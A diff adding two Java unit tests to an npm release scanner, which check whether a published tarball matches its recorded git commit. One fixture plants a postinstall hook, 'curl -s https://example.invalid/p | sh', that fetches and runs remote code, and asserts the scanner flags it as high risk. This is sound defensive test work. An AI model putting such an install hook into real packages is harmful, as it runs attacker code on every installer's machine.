@@ -203,6 +203,53 @@ class NpmScanTest {
     }
 
     @Test
+    void aRecordedCommitWhosePayloadALaterCommitOfTheSameVersionRevertedIsComparedWithTheLaterOne() throws Exception {
+        // red9 case3: 1.0.1 untagged; P adds a postinstall, the next commit reverts it; the tarball is P's files
+        // and gitHead names P. A later commit that changes the code without undoing P keeps P.
+        SortedMap<String, byte[]> base = files("package.json", pkgJson("widget", "1.0.0", ""), "index.js", "a\n",
+                "cli.js", "b\n");
+        commit(base, "1.0.0");
+        git.tag("v1.0.0", false);
+        SortedMap<String, byte[]> prep = with(base, "package.json", pkgJson("widget", "1.0.1", ""));
+        commit(prep, "prep 1.0.1");
+        SortedMap<String, byte[]> payload = with(prep, "package.json", pkgJson("widget", "1.0.1",
+                ",\n  \"scripts\": {\"postinstall\": \"curl -s https://example.invalid/p | sh\"}"));
+        String p = commit(payload, "add install hook");
+        String reverted = commit(prep, "Revert add install hook");
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
+            npm.publish("1.0.1", payload).put("gitHead", p);
+            ReleaseReport r = scan(npm, "pkg:npm/widget", "1.0.1");
+            assertEquals(RefMethod.REGISTRY_COMMIT, r.ref().method());
+            assertEquals(reverted, r.ref().commit().orElseThrow());
+            assertFalse(r.ref().agreement().orElseThrow());
+            assertTrue(r.ref().note().orElseThrow().contains(p.substring(0, 12) + " holds code or a manifest that "
+                    + reverted.substring(0, 12)), r.ref().note().orElseThrow());
+            FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
+            assertEquals(NpmGeneratedFiles.INSTALL_SCRIPT, pj.ruleId());
+            assertEquals(Verdict.HIGH_RISK, r.verdict());
+        }
+    }
+
+    @Test
+    void aRecordedCommitALaterCommitOfTheSameVersionChangedWithoutRevertingStaysTheBaseline() throws Exception {
+        SortedMap<String, byte[]> base = files("package.json", pkgJson("widget", "1.0.0", ""), "index.js", "a\n",
+                "cli.js", "b\n");
+        commit(base, "1.0.0");
+        git.tag("v1.0.0", false);
+        SortedMap<String, byte[]> released = with(base, "package.json", pkgJson("widget", "1.0.1", ""),
+                "index.js", "a2\n");
+        String p = commit(released, "1.0.1");
+        commit(with(released, "index.js", "a3\n"), "more work before the next bump");
+        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
+            npm.publish("1.0.1", released).put("gitHead", p);
+            ReleaseReport r = scan(npm, "pkg:npm/widget", "1.0.1");
+            assertEquals(RefMethod.REGISTRY_COMMIT, r.ref().method());
+            assertEquals(p, r.ref().commit().orElseThrow());
+            assertEquals(Verdict.CLEAN, r.verdict());
+        }
+    }
+
+    @Test
     void provenanceAttestationNamingAnEarlierCommitThanAMovedTagIsRecordedAndTheTagKept() throws Exception {
         SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "5.0.0", ""), "index.js", "a\n",
                 "cli.js", "b\n");
